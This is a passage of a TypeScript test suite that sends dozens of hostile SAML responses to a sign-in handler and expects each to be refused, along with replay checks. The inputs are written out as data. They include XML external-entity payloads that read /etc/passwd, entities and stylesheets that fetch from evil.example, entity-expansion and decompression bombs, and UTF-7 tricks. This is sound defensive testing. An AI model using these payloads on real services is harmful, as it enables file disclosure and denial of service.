    () => sealedAs(assertionOf, { cipher: 'http://www.w3.org/2001/04/xmlenc#tripledes-cbc' }),
  ],
  'an encrypted assertion beside a plain one': [
    /exactly one/,
    () => ({
      xml: async (right) => {
        const sealed = await encrypted(assertionOf(right), { certificate: await ownCertificate() });
        return right.replace('</samlp:Response>', `${sealed}</samlp:Response>`);
      },
    }),
  ],
  'a cipher text that lies elsewhere': [
    /how it is encrypted/,
    () => ({
      xml: async (right) => {
        const sealed = await encrypted(assertionOf(right), { certificate: await ownCertificate() });
        return right.replace(
          assertionOf(right),
          sealed.replace(
            '<xenc:CipherData>',
            '<xenc:CipherReference URI="https://evil.example"/><xenc:CipherData>',
          ),
        );
      },
    }),
  ],

  // Form
  'entities without end': [
    /document type/,
    () => ({
      xml: (right) => `<!DOCTYPE x [<!ENTITY l0 "lol">${entities}]>${right.replace('ana-1', '&l9;')}`,
    }),
  ],
  'an external entity': [
    /document type/,
    () => ({
      xml: (right) =>
        `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${right.replace('ana-1', '&e;')}`,
    }),
  ],
  'a parameter entity': [
    /document type/,
    () => ({
      xml: (right) => `<!DOCTYPE x [<!ENTITY % e SYSTEM "https://evil.example/x.dtd"> %e;]>${right}`,
    }),
  ],
  'a document type alone': [/document type/, () => ({ xml: (right) => `<!DOCTYPE x>${right}` })],
  'a document type of another case': [/document type/, () => ({ xml: (right) => `<!doctype x>${right}` })],
  'a document type behind a declaration': [
    /document type/,
    () => ({ xml: (right) => `<?xml version="1.0"?><!DOCTYPE x>${right}` }),
  ],
  'an entity that is not declared': [/well-formed/, () => tampered('ana-1', '&olga;')],
  'a style sheet': [
    /processing instruction/,
    () => ({ xml: (right) => `<?xml-stylesheet href="https://evil.example"?>${right}` }),
  ],
  'a declaration of UTF-7': [
    /UTF-8/,
    () => ({ xml: (right) => `<?xml version="1.0" encoding="UTF-7"?>${right}` }),
  ],
  'UTF-16': [
    /UTF-8/,
    () => ({ posted: (right) => base64(Buffer.from(`\uFEFF${decoded(right)}`, 'utf16le')) }),
  ],
  'bytes that are no text': [
    /UTF-8/,
    () => ({ posted: () => base64(Buffer.from([0x3c, 0xff, 0xfe, 0x80])) }),
  ],
  'a zero byte': [/control character/, () => tampered('ana-1', 'ana-1\0olga')],
  'a zero byte by its number': [/control character/, () => says('>ana-1<', '>ana-1&#0;olga<')],
  'no base64': [/base64/, () => ({ posted: () => '<samlp:Response/>' })],
  'base64 that was cut': [/base64/, () => ({ posted: (right) => right.slice(0, 1001) })],
  'base64 for addresses': [/base64/, () => ({ posted: (right) => `${right.slice(0, -4)}-_-_` })],
  'base64 with rubbish behind': [/base64/, () => ({ posted: (right) => `${right.replace(/=+$/, '')}====` })],
  nothing: [/base64/, () => ({ posted: () => '' })],
  'a compressed response': [/UTF-8/, () => ({ posted: (right) => base64(deflateRawSync(decoded(right))) })],
  'a bomb that inflates to ten megabytes': [
    /UTF-8/,
    () => ({ posted: () => base64(deflateRawSync(Buffer.alloc(10 << 20, 'A'))) }),
  ],
  'a bomb by gzip': [/UTF-8/, () => ({ posted: () => base64(gzipSync(Buffer.alloc(10 << 20, 'A'))) })],
  'more than 256 KiB': [/too large/, () => ({ xml: (right) => right + ' '.repeat(256 * 1024) })],
  'a megabyte': [/too large/, () => ({ posted: () => 'A'.repeat(1 << 20) })],
  'six thousand elements': [
    /elements/,
    () => tampered('</samlp:Response>', `${'<x/>'.repeat(6_000)}</samlp:Response>`),
  ],
  'forty thousand elements that are not closed': [/elements/, () => ({ xml: () => '<a>'.repeat(40_000) })],
  'four thousand elements that are not closed': [/elements deep/, () => ({ xml: () => '<a>'.repeat(4_000) })],
  'elements five hundred deep': [
    /deep/,
    () => tampered('</samlp:Response>', `${'<x>'.repeat(500)}${'</x>'.repeat(500)}</samlp:Response>`),
  ],
  'two roots': [/well-formed|beside its root/, () => ({ xml: (right) => `${right}${right}` })],
  'text behind the root': [/well-formed|beside its root/, () => ({ xml: (right) => `${right}olga` })],
  'an attribute twice': [/well-formed/, () => tampered('<saml:NameID ', '<saml:NameID Format="x" ')],
  'an element that is not closed': [/well-formed/, () => ({ xml: (right) => right.slice(0, -4) })],
  HTML: [/document type/, () => ({ xml: () => '<!doctype html><p>hello' })],
  JSON: [/well-formed/, () => ({ xml: () => '{"email":"ana@acme.example"}' })],
};

async function footprint(): Promise<number[]> {
  const counts = await Promise.all(
    [acme, rival].map(({ orgId }) =>
      inOrg(orgId, async (tx) => [
        await tx.session.count({ where: { orgId } }),
        await tx.person.count({ where: { orgId } }),
        await tx.usedAssertion.count({ where: { orgId } }),
      ]),
    ),
  );
  return counts.flat();
}

const refusalOf = (attempt: Promise<unknown>) =>
  attempt.then(
    () => 'accepted' as const,
    (error: unknown) => error,
  );

describe('a hostile SAML response, browser or provider', () => {
  const names = Object.keys(cases);
  let accepted = 0;

  it.each(names)('gets nowhere with %s', async (name) => {
    const [because, wrong] = cases[name] ?? [/./, () => ({})];
    const [sessions, people] = await footprint();
    const outcome = await refusalOf(attack(wrong()));
    if (outcome === 'accepted') accepted += 1;
    if (!isAppError(outcome)) throw outcome;
    expect(outcome.code).toBe('unauthenticated');
    expect(outcome.message).toMatch(because);
    expect((await footprint()).slice(0, 2)).toEqual([sessions, people]);
  });

  it('is good once: the same, and the same in another envelope', async () => {
    provider.signsIn(ana);
    provider.signs('assertion');
    const form = await portalForm();
    const right = { org: acme, connection: portal, form, browser: null };
    expect((await bring(right)).kind).toBe('opened');
    const envelope = decoded(form.SAMLResponse).replace(/(<samlp:Response[^>]* ID=")[^"]*/, '$1_another');
    const fresh = says('<saml:AudienceRestriction>', '<saml:OneTimeUse/><saml:AudienceRestriction>');
    const again = [
      form,
      { ...form, SAMLResponse: base64(envelope) },
      { ...form, SAMLResponse: base64((await fresh.xml?.(decoded(form.SAMLResponse))) ?? '') },
    ];
    for (const replayed of again) {
      const outcome = await refusalOf(bring({ ...right, form: replayed }));
      if (outcome === 'accepted') accepted += 1;
      expect(outcome).toMatchObject({ message: expect.stringContaining('used already') });
    }
  });

  it('of which two come at once is taken once', async () => {
    const right = { org: acme, connection: portal, form: await portalForm(), browser: null };
    const outcomes = await Promise.all(Array.from({ length: 4 }, () => refusalOf(bring(right))));
    expect(outcomes.filter(isAppError)).toHaveLength(3);
  });

  it(`in ${names.length + 3} cases, of which none is accepted, while the honest answers are`, async () => {
    expect(names.length).toBeGreaterThanOrEqual(60);
    expect(accepted).toBe(0);
    for (const signs of ['assertion', 'response', 'both'] as const)
      expect((await attack({ signs })).kind).toBe('opened');
    for (const honest of [
      signedBy({}),
      signedBy({ signatureAlgorithm: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha512' }),
      says('<saml:AudienceRestriction>', '<saml:OneTimeUse/><saml:AudienceRestriction>'),
      sealedAs(assertionOf),
      sealedAs(assertionOf, { cipher: 'http://www.w3.org/2001/04/xmlenc#aes256-cbc' }),
    ])
      expect((await attack(honest)).kind).toBe('opened');
    process.stdout.write(`SAML: ${names.length + 3} hostile cases, ${accepted} accepted\n`);
  });

  it('is checked with the certificates that its connection knows now', async () => {
    const settings = { provider: (await live(acme, main)).settings.provider } satisfies Partial<SamlSettings>;
    const theirs = { ...settings.provider, certificates: [foreign.certificate] };
    const put = (value: unknown) =>
      database.asOwner('UPDATE connection SET settings = settings || $2 WHERE id = $1', [
        main,
        JSON.stringify({ provider: value }),
      ]);
    await put(theirs);
    expect(await refusalOf(attack({}))).toMatchObject({ code: 'unauthenticated' });
    await put({ ...theirs, certificates: [foreign.certificate, ...settings.provider.certificates] });
    expect((await attack({})).kind).toBe('opened');
  });
});
